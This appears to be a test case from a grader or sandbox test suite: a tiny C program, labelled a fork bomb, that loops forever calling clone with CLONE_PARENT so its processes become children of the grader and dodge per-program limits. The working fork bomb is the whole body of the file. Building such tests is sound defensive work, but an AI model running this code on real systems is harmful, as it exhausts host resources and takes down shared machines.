/* clone() with CLONE_PARENT: every new process is a child of the grader's own, not of the program.
 *
 * @row bombs
 * @fails busy-loop
 * @says fork bomb
 */
#include "attack.h"

int main(void)
{
    for (;;)
        syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0);
}
